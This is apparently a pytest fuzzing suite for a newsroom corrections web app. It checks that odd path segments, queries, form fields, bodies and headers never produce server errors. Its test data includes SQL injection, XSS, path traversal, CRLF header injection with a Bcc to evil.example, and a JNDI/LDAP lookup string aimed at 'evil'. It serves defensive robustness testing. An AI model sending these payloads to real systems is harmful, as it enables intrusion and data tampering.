"""Numbers beyond every database, characters that nobody types, cursors that were made up: never an error of ours."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from itertools import count
from typing import Any, TypeVar
from urllib.parse import quote_from_bytes

import pytest
from house.visits import UNSAFE, path, routes
from lxml import html
from lxml.html import HtmlElement
from pages import Client
from reused import on_sqlite
from security.newsroom import Places
from sqlalchemy import Engine
from werkzeug.routing import Rule

from corrections.desk.routes import ROUTES as DESK
from corrections.public.routes import ROUTES as PUBLIC
from corrections.taxonomy import Role

T = TypeVar("T")

# Digits alone, by what is odd about them: written otherwise, in the database's range, beyond one of its types, beyond
# what Python reads, of another script.
DIGITS = [
    ["0", "00", "01"],
    ["999999999", "1000000000"],
    [str(2**31)],
    [str(2**63), "9" * 19],
    ["9" * 5_000],
    ["٣", "１"],
]
NO_DIGITS = [
    "-1",
    "+1",
    "1.0",
    "1e3",
    "NaN",
    "Infinity",
    "0x1",
    "1%00",
    "1%20",
    "1;drop",
    "%ff",
    "%ed%a0%80",
    "%F0%9F%92%A9",
    "'",
    "1'--",
]
NUMBERS = [*NO_DIGITS, *(number for alike in DIGITS for number in alike)]
# Percent-encoded for paths and queries: NUL, controls, invalid UTF-8, overlong, surrogates, unfinished, bidi, astral.
OCTETS = [
    "%00",
    "a%00b",
    "%01%02%1f%7f",
    "%80",
    "%ff%fe",
    "%c0%80",
    "%c0%af",
    "%e0%80%af",
    "%ed%a0%80",
    "%ed%b0%80%ed%a0%80",
    "%f4%90%80%80",
    "%f0%28%8c%28",
    "%",
    "%%",
    "%zz",
    "%u0000",
    "%0d%0aSet-Cookie:%20a=b",
    "%e2%80%ae%e2%81%a6",
    "%ef%bf%be%ef%bf%bf",
    "%f0%9f%87%a9%f0%9f%87%aa",
    "%cc%81" * 200,
    "a" * 3_000,
    "{{7*7}}",
    "%25s%25n",
    "%22%27%3c%3e%26",
]
# What databases refuse to keep, what is read as a number, a day or an address, and what is words to everybody but some.
TEXTS = [
    [
        "\x00",
        "a\x00b",
        "\x01\x02\x1f\x7f\x85",
        "\ud800",
        "a\udfffb",
        "\ufffe\uffff",
        "e" + "\u0301" * 2_000,
        "😀" * 500,
        "9" * 5_000,
    ],
    [
        "-1",
        str(2**31),
        str(2**63),
        "NaN",
        "1e999",
        "2026-13-45",
        "0001-01-01",
        "9999-12-31",
        "99999-01-01",
        "0000-00-00",
        "24:61",
        "a@b",
        "https://[",
        "https://[::1]:99999/",
        "http://" + "a" * 300 + ".example",
        "xn--" + "a" * 60 + ".example",
    ],
    [
        "",
        " ",
        "\u202eevil\u202c\u2066x",
        "\u200d\u200b\ufeff",
        "null",
        "[]",
        "{}",
        "{{7*7}}",
        "%s%n%x",
        "=1+1",
        "'; DROP TABLE cases; --",
        "<script>alert(1)</script>",
        "\r\nBcc: a@evil.example",
        "CON",
        "../../etc/passwd",
        "a," * 600,
        "\u2028\u2029",
    ],
]


CURSORS = ["1.1", f"{2**62}.1", f"1.{2**62}", "1.2.3", "." * 50, "1.-1"]

# To read and check what was sent is the same code whatever database is behind it: all of it is tried on SQLite. What
# databases differ in is what they refuse themselves, and so this goes to PostgreSQL as well: numbers and days beyond
# theirs, NUL and other controls, octets that are no UTF-8, halves of surrogate pairs, what is too long for an index.
TO_POSTGRESQL = frozenset([
    "-1", "999999999", "1000000000", str(2**31), str(2**63), "9" * 19, "9" * 5_000, "NaN", "Infinity", "1e999", "1'--",
    "1%00", "%00", "a%00b", "%01%02%1f%7f", "\x00", "a\x00b", "\x01\x02\x1f\x7f\x85", "\ufffe\uffff", *CURSORS,
    "%ff", "%80", "%ff%fe", "%c0%80", "%ed%a0%80", "%f4%90%80%80", "\ud800", "a\udfffb", "%cc%81" * 200, "a" * 3_000,
    "2026-13-45", "0001-01-01", "9999-12-31", "99999-01-01", "0000-00-00", "e" + "\u0301" * 2_000,
])  # fmt: skip


def tried(engine: Engine, values: list[str]) -> list[str]:
    """Those of `values` that are tried on this database."""
    return [value for value in values if engine.dialect.name == "sqlite" or value in TO_POSTGRESQL]


def share(values: list[T], turn: int, one_in: int) -> list[T]:
    """One in so many of the values; in the next turn, the next of them."""
    return values[turn % one_in :: one_in]


def ask(client: Client, method: str, address: str, **options: Any) -> int:
    answer = client.browser.open(address, method=method, base_url=client.base, **options)
    status = answer.status_code
    answer.close()
    return int(status)


@pytest.fixture
def editor(places: Places, browser_of: Callable[[Role | None], Client]) -> Client:
    return browser_of(Role.STANDARDS_EDITOR)


@pytest.fixture
def administrator(places: Places, browser_of: Callable[[Role | None], Client]) -> Client:
    return browser_of(Role.ADMINISTRATOR)


def with_each(rule: Rule, places: Places, engine: Engine, turns: Iterator[int]) -> Iterator[str]:
    """Addresses of `rule` with what is odd in each of its variable places: in turn one of the numbers that are alike.

    Where a number stands, what has no digits alone finds no route, and comes to no code of this address: so one in
    eight of that is tried there, and one in four of all where words stand, in turn: still each at many addresses.
    """
    plain = path(rule, places).split("/")
    others = tried(engine, [*NO_DIGITS, *OCTETS])
    for n, segment in enumerate(rule.rule.split("/")):
        if "<" in segment:
            turn, is_number = next(turns), re.fullmatch(r"<int:\w+>", segment)
            numbers = [alike[turn % len(alike)] for alike in DIGITS]
            for part in [*tried(engine, numbers), *share(others, turn, 8 if is_number else 4)]:
                yield "/".join([*plain[:n], part, *plain[n + 1 :]])


def test_no_number_and_no_octet_in_a_path_is_too_much(editor: Client, places: Places, engine: Engine) -> None:
    turns = count()
    for method, rule in routes(editor.app):
        if method == "GET" and rule.arguments:
            for address in with_each(rule, places, engine, turns):
                status = ask(editor, "GET", address)
                assert status < 500, f"{address[:200]}: {status}"


def test_no_query_is_too_much(editor: Client, administrator: Client, places: Places, engine: Engine) -> None:
    names = {
        "/corrections": ("q", "kind", "section", "from", "to", "after"),
        "/corrections.json": ("q", "kind", "section", "from", "to", "after"),
        "/corrections.atom": ("q", "kind", "section"),
        "/corrections.csv": ("q", "kind"),
        "/articles": ("url",),
        "/report": ("url",),
        f"/articles/{places.article}": ("after", "version"),
        f"/articles/{places.article}/report": ("version", "q"),
        f"/articles/{places.article}/compare/1...2": ("view",),
        f"/requests/{places.links['requests']}": ("sent", "added"),
        "/follow": ("article", "section"),
        "/login": ("next", "left"),
        "/desk": ("view", "desk", "severity", "state", "after"),
        "/desk/articles": ("q", "after"),
        "/desk/set-aside": ("after",),
        "/desk/deliveries": ("state", "after", "kind"),
        f"/desk/cases/{places.drafted}/draft": ("find", "at"),
        "/static/img/favicon.svg": ("v",),
        "/newsroom.css": ("v",),
    }
    turns, values = count(), tried(engine, [*OCTETS, *NUMBERS, *CURSORS])
    for address, parameters in names.items():
        for name in parameters:
            for value in share(values, next(turns), 2 if name == "after" else 8):
                status = ask(editor, "GET", f"{address}?{name}={value}")
                assert status < 500, f"{address}?{name}={value[:100]}: {status}"
                if name == "after":
                    assert status in (200, 400, 404), f"{address}?{name}={value[:100]}: {status}"
            assert ask(editor, "GET", f"{address}?{name}=1&{name}=2&{name}[]=3&%00=1&=&&&;") < 500, address


def forms(client: Client, address: str) -> list[tuple[str, HtmlElement]]:
    answer = client.browser.get(address, base_url=client.base)
    if answer.mimetype != "text/html" or answer.status_code != 200:
        answer.close()
        return []
    found = [form for form in html.document_fromstring(answer.text).forms if form.method == "POST"]
    answer.close()
    return [(form.get("action") or address, form) for form in found]


# These change who may go on, or end what the next field is tried on; their own tests send them odd things.
ENDS = ("/logout", "/erasure", "/new-address", "/withdrawal", "/end-others", "/disable", "/sign-out", "/publication")


@pytest.mark.parametrize("people", [(None,), (Role.STANDARDS_EDITOR, Role.ADMINISTRATOR)], ids=["public", "desk"])
def test_no_field_of_any_form_is_too_much(
    places: Places, browser_of: Callable[[Role | None], Client], people: tuple[Role | None, ...]
) -> None:
    """Each field of each form with odd texts, sent as browsers do; what is wrong is said, at the field."""
    done: set[tuple[str, str]] = set()
    for who in people:
        before = len(done)
        _try_fields(browser_of(who), places, who, done)
        assert len(done) > before + 10


def _try_fields(client: Client, places: Places, who: Role | None, done: set[tuple[str, str]]) -> None:
    """Try each field that nobody before has come across, with one text of each class, in turn.

    What is sent to PostgreSQL as well is odd to a database, and of one class.
    """
    engine = client.app.extensions["engine"]
    kinds = TEXTS if engine.dialect.name == "sqlite" else [tried(engine, [text for kind in TEXTS for text in kind])]
    for method, rule in routes(client.app):
        if method != "GET" or rule.rule.startswith("/desk") != (who is not None):
            continue
        for action, form in forms(client, path(rule, places)):
            if action.split("?")[0].endswith(ENDS):
                continue
            values = dict(form.form_values())
            for name in sorted({field for field in form.fields if field and field != "csrf_token"}):
                if (action, name) in done:
                    continue
                done.add((action, name))
                for text in (texts[len(done) % len(texts)] for texts in kinds):
                    body = urlencoded({**values, name: text})
                    status = ask(client, "POST", action, data=body, content_type="application/x-www-form-urlencoded")
                    assert status < 500, f"{action}: {name} = {text[:60]!r}: {status}"
                    assert status not in (401, 403), f"{action}: {status}"


def urlencoded(values: dict[str, Any]) -> bytes:

    pairs = (
        f"{name}={quote_from_bytes(str(value or '').encode('utf-8', 'surrogatepass'))}"
        for name, value in values.items()
    )
    return "&".join(pairs).encode()


BODIES = [
    (b"", "application/x-www-form-urlencoded"),
    (b"%00=%00&%ff=%ff&=&&&", "application/x-www-form-urlencoded"),
    (b"a" * 100_000, "application/x-www-form-urlencoded"),
    (b"&".join(b"a=1" for _ in range(5_000)), "application/x-www-form-urlencoded"),
    (b"\xff\xfe\x00", "text/plain"),
    (b'{"wrong": "x"}', "application/json"),
    (b"{", "application/json"),
    (b"<a/>", "application/xml"),
    (b"", "multipart/form-data"),
    (b"--x\r\n", "multipart/form-data; boundary=x"),
    (b"--x\r\nContent-Disposition: form-data\r\n\r\ny\r\n--x--", "multipart/form-data; boundary=x"),
    (
        b'--x\r\nContent-Disposition: form-data; name="wrong"\r\n\r\n\xff\x00\r\n--x--\r\n',
        "multipart/form-data; boundary=x",
    ),
    (
        b'--x\r\nContent-Disposition: form-data; name="files"; filename="../../a\x00.png"\r\nContent-Type: image/png'
        b"\r\n\r\nnot a picture\r\n--x--\r\n",
        "multipart/form-data; boundary=x",
    ),
    (b"--" + b"x" * 300 + b"--", "multipart/form-data; boundary=" + "x" * 300),
    (b"x", "multipart/form-data; boundary="),
    (b"x", 'multipart/form-data; boundary="\xff"'),
    (b"x", "application/x-www-form-urlencoded; charset=utf-16"),
    (b"x", "application/x-www-form-urlencoded; charset=nonsense"),
    (b"x", ";;;"),
    (b"x", "a" * 5_000),
]


CALLED_WITHOUT_TOKEN = {"public.end_follow"} | {
    f"{room}.{route.endpoint}"
    for room, routes in (("public", PUBLIC), ("desk", DESK))
    for route in routes
    if route.forgotten
}


def test_no_body_is_too_much(editor: Client, places: Places, engine: Engine) -> None:
    turns, on_sqlite = count(), engine.dialect.name == "sqlite"
    for method, rule in routes(editor.app):
        if method not in UNSAFE or rule.rule == "/logout":
            continue
        # None of them holds a token, without which no view is called but those below: so each other address gets one
        # in four, in turn. And a body that can't be read comes to no database: PostgreSQL gets one for each address,
        # to see that it is so.
        one_in = 1 if rule.endpoint in CALLED_WITHOUT_TOKEN else 4
        for body, media_type in share(BODIES, next(turns), one_in if on_sqlite else len(BODIES)):
            status = ask(editor, method, path(rule, places), data=body, content_type=media_type)
            assert 400 <= status < 500 or rule.endpoint == "public.end_follow", (
                f"{rule.rule} {media_type[:60]}: {status}"
            )


@on_sqlite
@pytest.mark.parametrize(
    "headers",
    [
        {"Cookie": "corrections=\xff\x00"},
        {"Cookie": "corrections=" + "a" * 8_000},
        {"Cookie": "corrections=eyJfIjoxfQ.x.y; corrections=b; ;;=;="},
        {"If-None-Match": '"' + "a" * 5_000},
        {"If-None-Match": "*"},
        {"If-Modified-Since": "Thu, 99 Foo 99999 99:99:99 GMT"},
        {"If-Modified-Since": "\xff"},
        {"If-Modified-Since": "Jan 99999999999 0000 23:59:60 ++9999"},
        {"Range": "bytes=-9999999999999999999999"},
        {"Range": "bytes=" + ",".join(f"{n}-{n}" for n in range(2_000))},
        {"Accept": "\xff/\xff;q=nan"},
        {"Accept-Language": "xx-" + "y" * 3_000},
        {"Accept-Encoding": "gzip;q=nan, *;q=-1"},
        {"User-Agent": "\xff" * 1_000 + "${jndi:ldap://evil}"},
        {"Referer": "https://evil.example/\r"},
        {"Authorization": "Basic \xff"},
        {"Authorization": "Bearer " + "a" * 5_000},
        {"Origin": "null"},
        {"Content-Length": "5"},
        {"Sec-Fetch-Site": "\xff"},
    ],
    ids=lambda headers: next(iter(headers)),
)
def test_no_header_is_too_much(client: Client, headers: dict[str, str]) -> None:
    if any("\r" in value for value in headers.values()):
        headers = {name: value.replace("\r", "") for name, value in headers.items()}
    for address in (
        "/corrections",
        "/corrections.json",
        "/corrections.csv",
        "/static/img/favicon.svg",
        "/login",
        "/desk",
        "/log",
    ):
        status = ask(client, "GET", address, headers=headers)
        assert status < 500, f"{address}: {status}"


def test_odd_cursors_give_the_first_page_or_none(editor: Client) -> None:
    first = json.loads(editor.browser.get("/corrections.json", base_url=editor.base).text)
    for forged in ("x", "-1", "1.1.1", "9" * 30, "1e9", "٣", "%00", "0" * 20):
        answer = editor.browser.get(f"/corrections.json?after={forged}", base_url=editor.base)
        assert answer.status_code in (200, 400, 404)
        if answer.status_code == 200:
            assert json.loads(answer.text)["items"] in (first["items"], [])
